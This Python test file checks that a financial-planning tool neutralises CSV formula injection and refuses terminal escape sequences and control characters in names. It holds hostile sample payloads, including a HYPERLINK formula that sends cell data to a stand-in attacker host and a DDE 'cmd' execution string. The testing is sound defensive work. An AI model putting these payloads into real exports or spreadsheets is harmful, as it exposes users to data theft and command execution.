"""Hostile text: CSV formula injection, rich markup and terminal escapes (safety issue, part 4).

The workbook side (SUMIFS criteria, round trip of text) is in test_workbook_*.py; the
sweep's CSVs in test_sweep_limits.py.
"""

from __future__ import annotations

import csv
import tomllib

import pytest

from finmodel.csvsafe import FORMULA_TRIGGERS, neutralise
from finmodel.plan import PlanError, plan_from_dict
from tests.support.cli import is_number, run_cli
from tests.support.plans import LUTON, write_toml

HOSTILE = {
    "scheme": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "provider": "+cmd|' /C calc'!A0",
    "partner": "-2+3",
    "metric": "@SUM(A1:A9)",
}


def hostile_luton() -> dict:
    data = tomllib.loads(LUTON.read_text("utf-8"))
    data["schemes"][0]["name"] = HOSTILE["scheme"]
    data["schemes"][0]["provider"] = HOSTILE["provider"]
    data["partners"][2]["name"] = HOSTILE["partner"]
    old_metric = data["metrics"][0]["name"]
    data["metrics"][0]["name"] = HOSTILE["metric"]
    actual = data.get("outturn", {}).get("metrics_actual", {})
    if old_metric in actual:
        actual[HOSTILE["metric"]] = actual.pop(old_metric)
    data["schemes"][1]["source"] = "line one\nline two, with a comma"
    return data




def test_neutralise_prefixes_formula_text_and_leaves_numbers():
    assert neutralise("=1+1") == "'=1+1" and neutralise("@x") == "'@x" and neutralise("\tx") == "'\tx"
    assert neutralise("Reablement") == "Reablement" and neutralise(-12.5) == -12.5


def test_no_csv_cell_from_a_run_can_run_as_a_formula(sandbox, tmp_path):
    plan = write_toml(hostile_luton(), sandbox / "inputs" / "hostile.toml")
    out = tmp_path / "res"
    assert run_cli("run", plan, "--no-workbook", "--out", out) == 0
    files = sorted(out.glob("*.csv"))
    assert len(files) >= 10
    seen = set()
    for f in files:
        with open(f, newline="", encoding="utf-8") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    if cell.startswith(FORMULA_TRIGGERS):
                        assert is_number(cell), f"{f.name}: {cell!r} would run as a formula"
                    seen.add(cell)
    # the names are there, as text a spreadsheet shows rather than runs
    assert "'" + HOSTILE["scheme"] in seen and "'" + HOSTILE["metric"] in seen
    assert any(HOSTILE["partner"] in cell for cell in seen)


def test_rich_markup_in_names_is_printed_literally(sandbox, tmp_path, capsys):
    data = tomllib.loads(LUTON.read_text("utf-8"))
    data["hwb"]["name"] = "Luton [/] [bold red]not bold[/bold red] :smile:"
    data["partners"][2]["name"] = "Trust [/]"
    plan = write_toml(data, sandbox / "inputs" / "markup.toml")
    assert run_cli("run", plan, "--no-workbook", "--out", tmp_path / "res") == 0
    printed = capsys.readouterr().out
    assert "Luton [/] [bold red]not bold[/bold red] :smile:" in printed
    assert "Trust [/]" in printed


@pytest.mark.parametrize("bad", ["Luton\x1b[2J", "Luton\tCCG", "Luton\rCCG", "Lu\x00ton", "Luton\u202eLCC"])
def test_control_characters_in_names_are_refused(bad):
    data = tomllib.loads(LUTON.read_text("utf-8"))
    data["hwb"]["name"] = bad
    with pytest.raises(PlanError) as exc:
        plan_from_dict(data, "p.toml")
    assert exc.value.problems[0][0] == "hwb.name"


def test_escape_sequences_never_reach_the_terminal(sandbox, tmp_path, capsys):
    data = tomllib.loads(LUTON.read_text("utf-8"))
    data["hwb"]["name"] = "Luton\x1b]0;pwned\x07"
    plan = write_toml(data, sandbox / "inputs" / "esc.toml")
    assert run_cli("run", plan, "--no-workbook") == 2
    captured = capsys.readouterr()
    assert "\x1b" not in captured.err and "\x07" not in captured.err
    assert "hwb.name" in captured.err
    # a file name with an escape in it is shown escaped, too
    odd = sandbox / "inputs" / "odd\x1b[31mname.toml"
    odd.write_text(LUTON.read_text("utf-8"), "utf-8")
    assert run_cli("check", odd) == 0
    assert "\x1b" not in capsys.readouterr().out


def test_scenario_description_with_control_characters_is_refused(tmp_path):
    from finmodel.scenario import ScenarioError, load_scenario

    f = tmp_path / "s.toml"
    f.write_text('name = "s"\ndescription = "a\\u001b[2Jb"\n[set]\n', "utf-8")
    with pytest.raises(ScenarioError, match="description"):
        load_scenario(str(f))
